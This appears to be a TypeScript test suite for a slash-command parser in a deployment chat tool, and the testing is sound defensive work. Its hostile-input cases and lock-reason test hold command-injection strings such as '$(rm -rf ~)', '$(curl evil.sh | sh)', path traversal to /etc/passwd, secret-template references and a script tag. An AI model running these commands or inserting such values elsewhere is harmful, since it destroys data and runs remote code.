import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { ParseCommandContext, ParsedComment } from '../../../core/commands/command-types.js';
import { parseCommand } from '../../../core/commands/parse-command.js';

const known: ParseCommandContext = {
  knownEnvironments: ['staging', 'production'],
  knownModels: ['fraud', 'churn/eu'],
};

const commands: [string, ParsedComment, ParseCommandContext?][] = [
  ['/promote v5', { kind: 'promote', version: 'v5', dryRun: false }],
  ['/promote v5.1', { kind: 'promote', version: 'v5.1', dryRun: false }],
  ['/promote v5.1.2', { kind: 'promote', version: 'v5.1.2', dryRun: false }],
  ['/promote 5.1.2', { kind: 'promote', version: '5.1.2', dryRun: false }],
  ['/promote v0.0.1', { kind: 'promote', version: 'v0.0.1', dryRun: false }],
  ['/promote v5 to production', { kind: 'promote', version: 'v5', environment: 'production', dryRun: false }],
  ['/promote v5 fraud', { kind: 'promote', version: 'v5', model: 'fraud', dryRun: false }],
  [
    '/promote v5 fraud to staging --dry-run',
    { kind: 'promote', version: 'v5', model: 'fraud', environment: 'staging', dryRun: true },
  ],
  [
    '/promote --dry-run v5 churn/eu TO staging',
    { kind: 'promote', version: 'v5', model: 'churn/eu', environment: 'staging', dryRun: true },
    known,
  ],
  [
    '/promote v5 to staging —dry-run',
    { kind: 'promote', version: 'v5', environment: 'staging', dryRun: true },
  ],
  ['/Promote v5 to staging', { kind: 'promote', version: 'v5', environment: 'staging', dryRun: false }],
  [
    '  \r\n\n\t/promote v5 to staging  \r\nthanks!\r\n',
    { kind: 'promote', version: 'v5', environment: 'staging', dryRun: false },
  ],
  ['\ufeff/promote v5', { kind: 'promote', version: 'v5', dryRun: false }],
  [
    '/promote\u00a0v5\tto  staging',
    { kind: 'promote', version: 'v5', environment: 'staging', dryRun: false },
  ],
  ['/rollback', { kind: 'rollback', dryRun: false }],
  ['/rollback production', { kind: 'rollback', environment: 'production', dryRun: false }],
  [
    '/rollback production fraud',
    { kind: 'rollback', environment: 'production', model: 'fraud', dryRun: false },
  ],
  ['/rollback fraud', { kind: 'rollback', model: 'fraud', dryRun: false }, known],
  ['/rollback fraud', { kind: 'rollback', environment: 'fraud', dryRun: false }],
  [
    '/rollback production to v4',
    { kind: 'rollback', environment: 'production', version: 'v4', dryRun: false },
  ],
  ['/rollback to v4.0.1 --dry-run', { kind: 'rollback', version: 'v4.0.1', dryRun: true }],
  ['/status', { kind: 'status' }],
  ['/status production', { kind: 'status', environment: 'production' }, known],
  [
    '/lock production --reason "incident 42"',
    { kind: 'lock', environment: 'production', reason: 'incident 42' },
  ],
  [
    "/lock production --reason 'don\"t touch'",
    { kind: 'lock', environment: 'production', reason: 'don"t touch' },
  ],
  [
    '/lock production --reason “freeze until Monday”',
    { kind: 'lock', environment: 'production', reason: 'freeze until Monday' },
  ],
  [
    '/lock production --reason freeze, see #12 --force',
    { kind: 'lock', environment: 'production', reason: 'freeze, see #12 --force' },
  ],
  ['/lock --reason "x y" production', { kind: 'lock', environment: 'production', reason: 'x y' }],
  [
    '/lock production --reason="holiday freeze"',
    { kind: 'lock', environment: 'production', reason: 'holiday freeze' },
  ],
  [
    "/lock production --reason don't deploy",
    { kind: 'lock', environment: 'production', reason: "don't deploy" },
  ],
  ['/unlock production', { kind: 'unlock', environment: 'production', force: false }],
  ['/unlock production --force', { kind: 'unlock', environment: 'production', force: true }],
  ['/help', { kind: 'help' }],
  ['/help me please --now', { kind: 'help' }],
  ['/HELP', { kind: 'help' }],
];

const notCommands = [
  '',
  '   ',
  'Looks good! /promote v5 to production',
  'LGTM\n/promote v5 to production',
  '> /promote v5 to production',
  '`/promote v5 to production`',
  '```\n/promote v5 to production\n```',
  '```/promote v5```',
  '/lgtm',
  '/deploy production',
  '/ promote v5',
  '//promote v5',
  '/usr/bin/promote v5',
  '/promote/v5',
  '/123',
  'promote v5 to production',
  '\\/promote v5',
];

/** [comment, the message must contain each of these, context?] */
const invalid: [string, string[], ParseCommandContext?][] = [
  ['/promte v5', ['did you mean /promote?']],
  ['/rolback production', ['did you mean /rollback?']],
  ['/stauts', ['did you mean /status?']],
  ['/unlcok production', ['did you mean /unlock?']],
  ['/promote, v5', ['did you mean /promote?']],
  ['/рromote v5', ['U+0440', 'did you mean /promote?']],
  ['/promote', ['name the version']],
  ['/promote to staging', ['name the version to promote']],
  ['/promote v5 to', ['name the environment after "to"']],
  ['/promote 5', ['did you mean v5?']],
  ['/promote 5.1', ['did you mean v5.1?']],
  ['/promote V5.1', ['did you mean v5.1?']],
  ['/promote latest to staging', ['"latest" is not accepted']],
  ['/promote v05', ['is not a version']],
  ['/promote v5.1.2.3', ['is not a version']],
  ['/promote v5-rc1', ['is not a version']],
  ['/promote fraud v5', ['the version comes first: /promote v5 fraud']],
  ['/promote v5 fraud extra', ['unexpected "extra"']],
  ['/promote v5 to staging production', ['unexpected "production"']],
  ['/promote v5 --dryrun', ['unknown flag "--dryrun"', 'did you mean --dry-run?']],
  ['/promote v5 --force --yes', ['unknown flags "--force", "--yes"', 'it takes --dry-run']],
  ['/promote v5 --dry-run --dry-run', ['--dry-run is given twice']],
  ['/promote v5 --dry-run=yes', ['--dry-run takes no value']],
  ['/promote v5 to prodution', ['unknown environment "prodution": did you mean production?'], known],
  ['/promote v5 to qa', ['unknown environment "qa" (known: staging, production)'], known],
  ['/promote v5 to qa', ['none is configured'], { knownEnvironments: [] }],
  ['/promote v5 frud to staging', ['unknown model "frud": did you mean fraud?'], known],
  ['/promote v5 to "production"', ['"production" is not an environment name']],
  ['/rollback production to latest', ['"latest" is not accepted']],
  ['/rollback production fraud extra', ['unexpected "extra"']],
  ['/rollback production to', ['name the version after "to"']],
  ['/status production staging', ['unexpected "staging"']],
  ['/status --all', ['unknown flag "--all" (it takes no flags)']],
  ['/lock production', ['say why with --reason', '/lock production --reason']],
  ['/lock --reason "x"', ['name the environment']],
  ['/lock production --reason', ['--reason needs a text']],
  ['/lock production --reason ""', ['--reason needs a text']],
  ['/lock production --reason "unclosed', ['the quote opened at column 27 is not closed']],
  ['/lock production --reason "a"b', ['must be followed by a space']],
  [`/lock production --reason ${'x'.repeat(301)}`, ['at most 300']],
  ['/unlock', ['name the environment: /unlock ENV']],
  ['/unlock production --yes', ['unknown flag "--yes" (it takes --force)']],
  ['/promote v5 to staging\u202e', ['invisible or control character (U+202E)']],
  ['/promote v5\u200b to staging', ['U+200B']],
  [`/promote v5 to ${'a'.repeat(600)}`, ['at most 500 are read']],
];

/** Hostile text in argument positions is refused or kept as an inert string; the parser never evaluates it. */
const hostile: [string, string[]][] = [
  ['/promote $(rm -rf ~) to staging', ['unknown flag "-rf"']],
  ['/promote $(rm) to staging', ['"$(rm)" is not a version']],
  ['/promote v5 $(whoami) to staging', ['"$(whoami)" is not a model name']],
  ['/promote v5 `id` to staging', ['"`id`" is not a model name']],
  ['/promote v5 to staging;rm', ['"staging;rm" is not an environment name']],
  ['/promote v5 to prod&&curl', ['is not an environment name']],
  ['/promote v5 ../../etc/passwd', ['is not a model name']],
  ['/promote v5 to @octocat', ['"@octocat" is not an environment name']],
  ['/promote v5 to ${{secrets.TOKEN}}', ['is not an environment name']],
  ['/promote v5 fraud\\ to staging', ['is not a model name']],
  ['/promote v５ to staging', ['is not a version']],
  ['/promote v5 to ѕtaging', ['is not an environment name']],
  ['/promote v5 to staging\x00', ['U+0000']],
  ['/promote v5 to <script>alert(1)</script>', ['is not an environment name']],
  [`/promote v5 ${'f'.repeat(101)}`, ['is not a model name']],
  [`/promote v${'9'.repeat(12)}`, ['is not a version']],
];

describe('parseCommand', () => {
  for (const [body, expected, context] of commands)
    test(`reads ${JSON.stringify(body)}`, () => assert.deepEqual(parseCommand(body, context), expected));

  for (const body of notCommands)
    test(`ignores ${JSON.stringify(body)}`, () =>
      assert.deepEqual(parseCommand(body), { kind: 'not-a-command' }));

  for (const [body, parts, context] of [...invalid, ...hostile])
    test(`refuses ${JSON.stringify(body.slice(0, 60))}`, () => {
      const result = parseCommand(body, context);
      assert.equal(result.kind, 'invalid', JSON.stringify(result));
      if (result.kind !== 'invalid') return;
      for (const part of parts)
        assert.ok(result.message.includes(part), `${result.message}\n  lacks: ${part}`);
      assert.ok(result.usage?.startsWith('/'), 'names the syntax');
      assert.ok(result.message.length < 400, 'stays short');
    });

  test('the reason of a lock is kept as plain text, whatever it contains', () => {
    const reason = '$(curl evil.sh | sh) `rm -rf /` @everyone <img src=x> ${{ github.token }}';
    assert.deepEqual(parseCommand(`/lock production --reason "${reason}"`), {
      kind: 'lock',
      environment: 'production',
      reason,
    });
  });

  test('a megabyte of first line is refused quickly, without reading it', () => {
    const body = `/promote v5 ${'x '.repeat(500_000)}`;
    const started = performance.now();
    const result = parseCommand(body);
    assert.equal(result.kind, 'invalid');
    assert.ok(performance.now() - started < 50);
    const other = `${'/'.repeat(1_000_000)}`;
    assert.deepEqual(parseCommand(other), { kind: 'not-a-command' });
  });

  test('only the first line counts: the rest of the comment may say anything', () => {
    assert.deepEqual(parseCommand('/status\n/promote v5 to production\n$(rm -rf /)'), { kind: 'status' });
    assert.deepEqual(parseCommand('/status\r/promote v5'), { kind: 'status' });
  });
});
